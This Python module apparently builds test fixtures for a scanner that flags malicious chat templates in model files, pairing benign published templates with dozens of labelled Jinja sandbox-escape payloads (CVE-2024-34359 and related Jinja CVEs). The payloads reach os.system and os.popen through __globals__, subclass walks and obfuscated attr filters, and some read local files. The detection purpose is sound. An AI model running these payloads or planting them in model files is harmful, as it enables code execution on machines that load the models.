"""Chat templates: as published models have them, and as attackers write them (CVE-2024-34359 and Jinja's known escapes)."""

import json
from collections.abc import Iterator

from tests.corpus.sample import COMMAND, Sample, benign, hostile

CHATML = (
    "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}"
    "{{ '<|im_start|>system\\nYou are a helpful assistant.<|im_end|>\\n' }}{% endif %}"
    "{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
LLAMA = """{{- bos_token }}
{%- if custom_tools is defined %}
    {%- set tools = custom_tools %}
{%- endif %}
{%- if not date_string is defined %}
    {%- if strftime_now is defined %}
        {%- set date_string = strftime_now("%d %b %Y") %}{%- else %}{%- set date_string = "26 Jul 2024" %}{%- endif %}
{%- endif %}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}
    {%- set messages = messages[1:] %}
{%- else %}
    {%- set system_message = "" %}
{%- endif %}
{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" + system_message + "<|eot_id|>" }}
{%- for message in messages %}
    {%- if not (message.role == 'ipython' or 'tool_calls' in message) %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' }}
    {%- elif 'tool_calls' in message %}
        {%- if not message.tool_calls|length == 1 %}
            {{- raise_exception("This model only supports single tool-calls at once!") }}
        {%- endif %}
        {%- set tool_call = message.tool_calls[0].function %}
        {%- for arg_name, arg_val in tool_call.arguments | items %}
            {{- arg_name + '="' + arg_val + '"' }}{%- if not loop.last %}{{- ", " }}{%- endif %}
        {%- endfor %}
        {{- tool_call.arguments | tojson(indent=2) }}
    {%- endif %}
{%- endfor %}
"""
REASONING = """{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1, is_first=false) %}
{%- macro render_extra(json_dict, handled_keys) %}
    {%- if json_dict is mapping %}{%- for json_key in json_dict if json_key not in handled_keys %}
        {{- '\\n<' ~ json_key ~ '>' ~ (json_dict[json_key] | string) ~ '</' ~ json_key ~ '>' }}
    {%- endfor %}{%- endif %}
{%- endmacro %}
{%- for message in messages[::-1] %}
    {%- set index = (messages|length - 1) - loop.index0 %}
    {%- if ns.multi_step_tool and message.role == "user" and message.content is string
            and not (message.content.startswith('<tool>') and message.content.endswith('</tool>')) %}
        {%- set ns.multi_step_tool = false %}{%- set ns.last_query_index = index %}
    {%- endif %}
{%- endfor %}
{%- for message in messages %}
    {%- set content = message.content %}
    {%- set reasoning_content = '' %}
    {%- if '</think>' in content %}
        {%- set reasoning_content = content.split('</think>')[0].rstrip('\\n').split('<think>')[-1].lstrip('\\n') %}
        {%- set content = content.split('</think>')[-1].lstrip('\\n') %}
    {%- endif %}
    {{- '<|' + message.role | upper + '|>' + render_extra(message, ['role', 'content']) + content | replace('a', 'b') }}
    {%- generation %}{{- reasoning_content }}{%- endgeneration %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|assistant|>' }}{%- endif %}
"""

_RUN = f".system('{COMMAND}')"
HOSTILE_TEMPLATES = {
    "globals": "{{ self.__init__.__globals__.__builtins__.__import__('os')" + _RUN + " }}",
    "subclasses": "{% for c in ().__class__.__base__.__subclasses__() %}{% if 'warning' in c.__name__ %}"
    "{{ c()._module.__builtins__['__import__']('os')" + _RUN + " }}{% endif %}{% endfor %}",
    "mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "cycler": "{{ cycler.__init__.__globals__.os" + _RUN + " }}",
    "joiner": "{{ joiner.__init__.__globals__.os.popen('" + COMMAND + "').read() }}",
    "lipsum": "{{ lipsum.__globals__['os']" + _RUN + " }}",
    "namespace": "{{ namespace.__init__.__globals__.os" + _RUN + " }}",
    "attr-filter": "{{ lipsum|attr('__globals__')|attr('get')('os')|attr('system')('" + COMMAND + "') }}",
    "attr-concatenated": "{{ lipsum|attr('__glo' ~ 'bals__') }}",
    "attr-joined": "{{ lipsum|attr(['__glo','bals__']|join) }}",
    "attr-escaped": "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "attr-format": "{{ lipsum|attr('%c%cglobals%c%c'|format(95,95,95,95)) }}",
    "attr-replaced": "{{ lipsum|attr('__gloXbals__'|replace('X','')) }}",
    "attr-reversed": "{{ lipsum|attr('__slabolg__'|reverse) }}",
    "item": "{{ lipsum['__globals__']['os'] }}",
    "item-computed": "{{ lipsum['__' + 'globals' + '__'] }}",
    "map-attribute": "{{ [lipsum]|map(attribute='__globals__')|list }}",
    "format-string": "{{ '{0.__class__}'.format(messages) }}",
    "format-map": "{{ '{a.__init__.__globals__}'.format_map({'a': cycler}) }}",
    "request": "{{ request.application.__globals__ }}",
    "message-class": "{% for message in messages %}{{ message.__class__.__base__.__subclasses__() }}{% endfor %}",
    "set-first": "{% set x = '__class__' %}{{ ''[x] }}",
    "hidden-in-chatml": CHATML + "{% if false %}{{ cycler.__init__.__globals__ }}{% endif %}",
    "in-macro": "{% macro m(x) %}{{ x.__globals__ }}{% endmacro %}{{ m(lipsum) }}",
    "include": "{% include '/etc/hostname' %}",
    "import": "{% import '/etc/corpus' as x %}{{ x.y() }}",
    "extends": "{% extends '../../x' %}",
    "do-extension": "{% do lipsum.__globals__.os" + _RUN + " %}",
    "code-attributes": "{{ raise_exception.__code__.co_consts }}",
    "set-multiplied": "{% set a='_'*2 %}{{ cycler[a~'init'~a] }}",
    "bound-method": "{{ [].append.__self__.__class__ }}",
    "selectattr": "{{ messages|selectattr('__class__')|list }}",
    "groupby": "{{ messages|groupby('__class__') }}",
    "sort-attribute": "{{ messages|sort(attribute='__class__.__name__') }}",
    "sum-attribute": "{{ messages|sum(attribute='__init__') }}",
    "unique-attribute": "{{ messages|unique(attribute='__globals__') }}",
    "getattribute": "{{ messages.__getattribute__('__class__') }}",
    "attr-sliced": "{{ lipsum|attr('x__globals__'[1:]) }}",
    "attr-lowered": "{{ lipsum|attr('__GLOBALS__'|lower) }}",
    "attr-truncated": "{{ lipsum|attr('__globals__zzz'|truncate(11,true,'')) }}",
    "item-joined": "{{ lipsum[['__gl','obals__']|join] }}",
    "call-block": "{% call(x) lipsum.__globals__.os.popen('id') %}{% endcall %}",
    "range": "{{ range.__class__ }}",
    "generator-frame": "{{ (messages|map('upper')).gi_frame.f_back.f_globals }}",
}


def tokenizer_config(template: object) -> str:
    return json.dumps(
        {
            "add_bos_token": True,
            "bos_token": "<s>",
            "model_max_length": 4096,
            "tokenizer_class": "LlamaTokenizerFast",
            "chat_template": template,
        }
    )


def samples() -> Iterator[Sample]:
    advisory = "CVE-2024-34359; CVE-2024-56201, CVE-2024-56326, CVE-2025-27516 of Jinja"
    for what, template in HOSTILE_TEMPLATES.items():
        yield from hostile("template-json", advisory, {f"{what}/tokenizer_config.json": tokenizer_config(template)})
        yield from hostile("template-file", advisory, {f"{what}/chat_template.jinja": template})
    first, *_ = HOSTILE_TEMPLATES.values()
    elsewhere = {
        "list/tokenizer_config.json": tokenizer_config(
            [{"name": "default", "template": CHATML}, {"name": "tool_use", "template": first}]
        ),
        "chat-template/chat_template.json": json.dumps({"chat_template": first}),
        "processor/processor_config.json": json.dumps({"processor_class": "X", "chat_template": first}),
        "folder/additional_chat_templates/rag.jinja": first,
        "config/config.json": json.dumps({"model_type": "llama", "chat_template": first}),
        "dictionary/tokenizer_config.json": tokenizer_config({"default": first}),
        "prompt-yaml/prompt.yaml": f'template_format: jinja2\ntemplate: "{first}"\n',
    }
    yield from hostile("template-elsewhere", advisory, elsewhere)
    for what, template in {"chatml": CHATML, "llama": LLAMA, "reasoning": REASONING}.items():
        yield from benign(
            "template-json", "published templates", {f"{what}/tokenizer_config.json": tokenizer_config(template)}
        )
        yield from benign("template-file", "published templates", {f"{what}/chat_template.jinja": template})
    named = tokenizer_config([{"name": "default", "template": CHATML}, {"name": "tool_use", "template": LLAMA}])
    yield from benign("template-elsewhere", "named templates", {"list/tokenizer_config.json": named})
    dictionary = json.dumps({"chat_template": REASONING})
    yield from benign("template-elsewhere", "processors", {"file/chat_template.json": dictionary})
